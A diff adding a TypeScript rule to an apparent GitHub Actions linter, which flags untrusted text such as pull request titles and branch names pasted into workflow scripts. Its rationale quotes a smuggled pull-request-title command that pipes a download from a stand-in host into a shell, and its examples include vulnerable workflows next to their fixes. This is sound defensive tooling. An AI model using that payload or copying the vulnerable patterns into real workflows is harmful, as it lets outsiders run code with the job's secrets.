@@ -1,0 +1,147 @@
+import {
+  defineRule,
+  expressionsIn,
+  passByEnvironment,
+  satisfied,
+  scriptsOf,
+  taintsOf,
+  violated,
+  workflow,
+  type EmbeddedExpression,
+  type Judgement,
+  type Severity,
+  type Taint,
+  type WorkflowStep,
+} from "../../src/rule/index.ts";
+
+export default defineRule({
+  id: "gha/script-injection",
+  scope: "job",
+  title: "Text that others write is pasted into a script",
+  severity: "error",
+  securitySeverity: 9.1,
+  confidence: "high",
+  profile: "recommended",
+  rationale:
+    'GitHub fills in `${{ … }}` before any shell sees the script, so that the text becomes part of the program. A pull request with the title `"; curl evil.example | sh; "` runs that command in the job, with its token and its secrets; quotes around the expression do not help.',
+  remediation:
+    'Hand the text over as an environment variable: `env: TITLE: ${{ github.event.pull_request.title }}`, and use `"$TITLE"` in the script, which the shell does not read as code. In `actions/github-script` use `process.env.TITLE` or `context.payload`.',
+  references: [
+    "https://docs.github.com/en/actions/concepts/security/script-injections",
+    "https://docs.github.com/en/actions/reference/security/secure-use",
+    "https://cwe.mitre.org/data/definitions/78.html",
+  ],
+  cwe: [94, 78],
+  examples: [
+    {
+      title: "a title in a shell script",
+      bad: workflow`
+        on: pull_request
+        jobs:
+          title:
+            runs-on: ubuntu-latest
+            steps:
+              - name: Check the title
+                run: |
+                  echo "Title: \${{ github.event.pull_request.title }}"
+      `,
+      flags: ["${{ github.event.pull_request.title }}"],
+      good: workflow`
+        on: pull_request
+        jobs:
+          title:
+            runs-on: ubuntu-latest
+            steps:
+              - name: Check the title
+                env:
+                  PULL_REQUEST_TITLE: \${{ github.event.pull_request.title }}
+                run: |
+                  echo "Title: \${PULL_REQUEST_TITLE}"
+      `,
+    },
+    {
+      title: "a branch's name on its way through an output and a variable",
+      bad: workflow`
+        on: pull_request_target
+        jobs:
+          names:
+            runs-on: ubuntu-latest
+            outputs:
+              branch: \${{ steps.find.outputs.branch }}
+            steps:
+              - id: find
+                run: echo "branch=$BRANCH" >> "$GITHUB_OUTPUT"
+                env:
+                  BRANCH: \${{ github.head_ref }}
+          label:
+            needs: names
+            runs-on: ubuntu-latest
+            steps:
+              - uses: actions/github-script@v7
+                with:
+                  script: console.log("\${{ needs.names.outputs.branch }}")
+      `,
+      flags: ["${{ needs.names.outputs.branch }}"],
+      good: workflow`
+        on: pull_request_target
+        jobs:
+          names:
+            runs-on: ubuntu-latest
+            outputs:
+              branch: \${{ steps.find.outputs.branch }}
+            steps:
+              - id: find
+                run: echo "branch=$BRANCH" >> "$GITHUB_OUTPUT"
+                env:
+                  BRANCH: \${{ github.head_ref }}
+          label:
+            needs: names
+            runs-on: ubuntu-latest
+            steps:
+              - uses: actions/github-script@v7
+                env:
+                  BRANCH: \${{ needs.names.outputs.branch }}
+                with:
+                  script: console.log(process.env.BRANCH)
+      `,
+    },
+  ],
+  *check(job) {
+    for (const step of job.steps) for (const { value } of scriptsOf(step)) yield* judge(step, value);
+  },
+});
+
+function* judge(step: WorkflowStep, value: ReturnType<typeof scriptsOf>[number]["value"]): Iterable<Judgement> {
+  let isClean = true;
+  for (const part of expressionsIn(value)) {
+    const [worst] =
+      part.expression === undefined
+        ? []
+        : [...taintsOf(part.expression, { job: step.job, step })].sort((a, b) => RANKS.indexOf(a.who) - RANKS.indexOf(b.who));
+    if (worst === undefined) continue;
+    isClean = false;
+    yield report(step, part, worst);
+  }
+  if (isClean) yield satisfied(value.span);
+}
+
+const RANKS: readonly Taint["who"][] = ["outsider", "starter", "branch", "tag"];
+const WEIGHT: Readonly<Record<Taint["who"], { readonly severity?: Severity; readonly securitySeverity?: number; readonly who: string }>> = {
+  outsider: { who: "Anybody who can write" },
+  starter: { severity: "warning", securitySeverity: 6, who: "Whoever starts this workflow and fills in" },
+  branch: { severity: "warning", securitySeverity: 5.5, who: "Whoever may push a branch and so choose" },
+  tag: { severity: "note", securitySeverity: 3.5, who: "Whoever may push a tag and so choose" },
+};
+
+function report(step: WorkflowStep, part: EmbeddedExpression, { who, source, through, at }: Taint): Judgement {
+  const { who: person, ...weight } = WEIGHT[who];
+  const isForeign = at.file !== part.span.file || at.start < part.span.start || at.end > part.span.end;
+  const fix = passByEnvironment(step, part);
+  return violated({
+    at: part.span,
+    ...weight,
+    message: `${person} "${source}" can put commands of their own into this script, because it is pasted in before the script is read.`,
+    related: isForeign && through.length > 0 ? [{ at, note: "it comes from here" }] : [],
+    ...(fix === undefined ? {} : { fix }),
+  });
+}
